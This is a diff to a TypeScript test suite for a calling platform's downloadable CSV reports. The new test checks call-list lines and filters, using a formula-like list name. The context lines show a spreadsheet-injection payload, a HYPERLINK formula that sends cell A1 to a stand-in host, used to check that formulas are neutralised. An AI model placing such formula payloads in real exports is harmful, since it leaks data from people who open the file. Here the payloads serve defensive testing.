@@ -86,6 +86,28 @@ describe('a downloaded report (platform/reports)', () => {
     expect(seconds).toEqual(content.map(({ duration }) => duration))
   })
 
+  test('ends with a line for each call list of its days, unless it leaves out calls (calling/door)', async () => {
+    const { body: list } = await staff.call<{ id: string; content: { id: string }[] }>('POST', '/v1/call-lists', {
+      name: '=Late today',
+      people: [{ phone: '+12015550197' }, { phone: '+12015550198' }],
+    })
+    const path = `/v1/call-lists/${list.id}/entries/${list.content[0]?.id}`
+    const absent = async (body: object) => {
+      const { data } = await outcome(live, await start(staff, body))
+      const [header = [], ...lines] = parseCsv(await (await fetch(data.url ?? '')).text())
+      const cell = (line: string[], name: string) => line[header.indexOf(name)]
+      expect(lines.every(({ length }) => length === header.length)).toBe(true)
+      return lines
+        .filter((line) => cell(line, 'Direction') === 'Call list')
+        .map((line) => [cell(line, 'To'), cell(line, 'Outcome'), cell(line, 'Call')])
+    }
+    expect(await absent({})).toEqual([])
+    await staff.call('PATCH', path, { outcome: 'reached' })
+    expect(await absent({})).toEqual([["'=Late today", '1 of 2 reached', '']])
+    expect(await absent({ reasons: ['Grades'] })).toEqual([])
+    expect(await absent({ to: '2021-01-01T00:00:00Z' })).toEqual([])
+  })
+
   test('runs no formula in a spreadsheet, for any typed text', async () => {
     const notes = '=HYPERLINK("http://127.0.0.1/?"&A1,"Open")\r\n+1;@B2'
     await staff.call('PUT', '/v2/calls/call-system', {
